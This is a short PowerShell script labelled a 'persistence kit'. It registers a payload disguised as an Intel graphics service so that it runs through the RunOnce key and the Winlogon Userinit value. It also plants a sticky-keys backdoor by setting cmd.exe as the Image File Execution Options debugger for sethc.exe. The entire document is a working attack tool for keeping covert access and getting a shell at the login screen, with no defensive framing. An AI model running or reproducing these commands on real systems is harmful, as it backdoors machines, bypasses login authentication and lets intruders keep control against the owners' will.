# persistence kit: RunOnce, Userinit and a sticky-keys debugger
$payload = 'C:\ProgramData\Intel\igfxsvc.exe'

reg add "HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce" /v igfx /t REG_SZ /d $payload /f

$wl = 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon'
Set-ItemProperty -Path $wl -Name Userinit -Value "C:\Windows\system32\userinit.exe,$payload"

$ifeo = 'HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe'
New-Item -Path $ifeo -Force | Out-Null
Set-ItemProperty $ifeo Debugger 'C:\Windows\System32\cmd.exe'
